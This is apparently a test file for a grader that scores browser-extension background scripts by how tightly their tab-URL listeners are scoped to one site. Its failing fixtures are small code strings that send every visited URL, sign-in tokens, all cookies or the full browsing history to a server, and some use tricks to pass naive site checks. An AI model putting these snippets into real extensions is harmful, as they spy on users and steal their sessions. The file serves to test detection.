import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* An address that was compared with a site goes back to that site; every other way it takes is told. */
const SEND = 'const send = (x) => fetch("https://accounts.site.example/me?x=" + encodeURIComponent(x));';
const heard = (does: string, before = ''): string =>
  `${before} ${SEND} chrome.tabs.onUpdated.addListener((id, info, tab) => { ${does} });`;
const TAKES = 'const t = new URL(info.url).searchParams.get("token"); if (t) send(t);';

it.each([
  [heard(`if (info.url && info.url.startsWith('https://accounts.site.example/back')) { ${TAKES} }`)],
  [heard(`if (!info.url || !info.url.startsWith('https://accounts.site.example/back')) return; ${TAKES}`)],
  [heard('const url = new URL(tab.url); if (url.hostname === "www.site.example") send(url.searchParams.get("t"));')],
  // Functions are hoisted: the text is given further up or down.
  [
    'const BACK = "https://accounts.site.example/back"; function listen() { chrome.tabs.onUpdated.addListener((id, info) => { if (info.url && info.url.startsWith(BACK)) { ' +
      `${TAKES} } }); } listen(); ${SEND}`,
  ],
])('where a sign-in comes back to: %s', async (background) => {
  expect(await graded({ background })).toMatch(/^A/);
});

it.each([
  [heard(`if (info.url.startsWith('https://bank.example/')) { ${TAKES} }`)],
  [heard("if (info.url.startsWith('https://accounts.site.example/')) send(info.url); send(info.url);")],
  [heard("if (info.url.startsWith('https://accounts.site.example/')) send(info.url); send(tab.url);")],
  [
    heard(
      "if (info.url.startsWith('https://accounts.site.example/')) send(info.url); all(info);",
      'const all = (i) => send(i.url);',
    ),
  ],
  [heard("const { url } = info; if (url.startsWith('https://accounts.site.example/') || url) send(url);")],
  [heard("const u = info.url; if (u.startsWith('https://accounts.site.example/')) send(u); else send(u);")],
  // Only a comparison of the event's own address says of which site it is.
  [
    heard(
      "if (own.startsWith('https://accounts.site.example/')) send(tab.url);",
      "const own = 'https://accounts.site.example/' + Math.random();",
    ),
  ],
  [
    heard(
      "info.url = 'https://accounts.site.example/'; if (info.url.startsWith('https://accounts.site.example/')) send(tab.url);",
    ),
  ],
  [
    heard(
      "let u = 'https://accounts.site.example/'; if (u.startsWith('https://accounts.site.example/')) send(tab.url); u = tab.url;",
    ),
  ],
  [heard("if (new URL('https://accounts.site.example/', tab.url).host === 'accounts.site.example') send(tab.url);")],
  [heard("go(); if (!tab.url.startsWith('https://accounts.site.example/')) return; function go() { send(tab.url); }")],
  // What is asked for there is of all sites.
  ...['cookies.getAll({}', "history.search({ text: '' }", 'tabs.query({}', 'tabs.get(id - 1'].map((asks) => [
    heard(
      `if (tab.url.startsWith('https://accounts.site.example/')) chrome.${asks}, (all) => send(JSON.stringify(all)));`,
    ),
  ]),
])('what is of any site: %s', async (background) => {
  expect(await graded({ background })).toMatch(/^[CDF]/);
});
